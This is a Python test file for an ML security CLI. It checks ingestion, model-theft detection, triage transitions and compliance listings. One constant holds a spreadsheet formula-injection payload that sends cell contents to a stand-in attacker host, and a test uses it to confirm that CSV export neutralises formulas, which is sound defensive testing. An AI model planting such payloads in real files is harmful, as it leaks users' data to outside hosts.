"""analyze → findings → triage → findings, as a user (or a cron job) runs them."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

from tests.cli.test_cli import mlspm

PARTNER = '=HYPERLINK("http://evil.example/?"&A1)'
ENDPOINT = "arn:aws:sagemaker:us-east-1:111122223333:endpoint/fraud"


def _log(tmp_path):
    start = datetime(2026, 3, 2, tzinfo=UTC)
    lines, n = [], 0
    for d in range(10):
        for h in range(8):
            for _ in range(3):
                n += 1
                ts = start + timedelta(days=d, hours=h, minutes=n % 60)
                lines.append(
                    {
                        "event_id": f"e{n}",
                        "ts": ts.isoformat(),
                        "principal": PARTNER,
                        "action": "InvokeEndpoint",
                        "resource": ENDPOINT,
                    }
                )
    for i in range(400):
        n += 1
        ts = start + timedelta(days=11, seconds=i * 9)
        lines.append(
            {
                "event_id": f"e{n}",
                "ts": ts.isoformat(),
                "principal": PARTNER,
                "action": "InvokeEndpoint",
                "resource": ENDPOINT,
            }
        )
    path = tmp_path / "gateway.jsonl"
    path.write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    return path


def test_analyze_findings_triage_round_trip(tmp_path):
    db = tmp_path / "f.duckdb"
    assert mlspm("ingest", str(_log(tmp_path)), db=db).returncode == 0
    done = mlspm("analyze", "--fail-on", "high", db=db)
    assert done.returncode == 1, done.stdout + done.stderr  # a high finding is open
    assert "1 new" in done.stdout and "open findings at or above high" in done.stderr
    again = mlspm("analyze", db=db)
    assert again.returncode == 0 and "0 new, 1 still active" in again.stdout

    rows = json.loads(mlspm("findings", "--format", "json", db=db).stdout)
    assert len(rows) == 1
    f = rows[0]
    for key in (
        "fingerprint",
        "analyzer_id",
        "title",
        "category",
        "severity",
        "principal",
        "asset_id",
        "resource",
        "first_seen",
        "last_seen",
        "active",
        "status",
        "frameworks",
        "evidence_count",
        "summary",
    ):
        assert key in f
    assert (f["status"], f["evidence_count"], f["category"]) == ("open", 400, "model_theft")
    assert "ATLAS:AML.T0024.002" in f["frameworks"]

    fp = f["fingerprint"][:10]
    assert (
        "open → confirmed"
        in mlspm("triage", fp, "--status", "confirmed", "--note", "scraping", "--actor", "ana", db=db).stdout
    )
    refused = mlspm("triage", fp, "--status", "risk_accepted", "--note", "fine", db=db)
    assert refused.returncode == 2 and "expiry" in refused.stderr
    assert mlspm("analyze", "--fail-on", "high", db=db).returncode == 1  # confirmed is still open work
    mlspm("triage", fp, "--status", "resolved", "--note", "key rotated", "--actor", "ana", db=db)
    assert mlspm("analyze", "--fail-on", "high", db=db).returncode == 0

    shown = mlspm("finding", fp, db=db).stdout
    for words in ("evidence", "triage history", "confirmed", "resolved", "why it matters", "what to do"):
        assert words in shown
    assert (
        json.loads(mlspm("findings", "--format", "json", "--status", "resolved", db=db).stdout)[0]["status"]
        == "resolved"
    )
    assert json.loads(mlspm("findings", "--format", "json", "--status", "open", db=db).stdout) == []


def test_csv_export_neutralizes_formulas(tmp_path):
    db = tmp_path / "c.duckdb"
    mlspm("ingest", str(_log(tmp_path)), db=db)
    mlspm("analyze", db=db)
    out = mlspm("findings", "--format", "csv", db=db).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1
    assert rows[0]["principal"].startswith("'=HYPERLINK")  # a formula-looking principal is neutralized
    # the summary starts with the principal's short name, which starts with '=': neutralized
    assert rows[0]["summary"].startswith("'=HYPERLINK")
    assert rows[0]["resource"].startswith("arn:")  # ordinary text is unchanged


def test_compliance_and_analyzers_listing(tmp_path):
    listing = mlspm("analyzers", "--json")
    assert listing.returncode == 0
    ids = {a["id"] for a in json.loads(listing.stdout)}
    assert "usage_inference_volume_spike" in ids
    report = json.loads(
        mlspm("compliance", "--framework", "OWASP-ML", "--json", db=tmp_path / "none.duckdb").stdout
    )
    (fw,) = report
    ml05 = next(c for c in fw["controls"] if c["id"] == "ML05")
    assert "usage_inference_volume_spike" in ml05["analyzers"]
    assert any(not c["analyzers"] for c in fw["controls"])  # uncovered controls are listed too
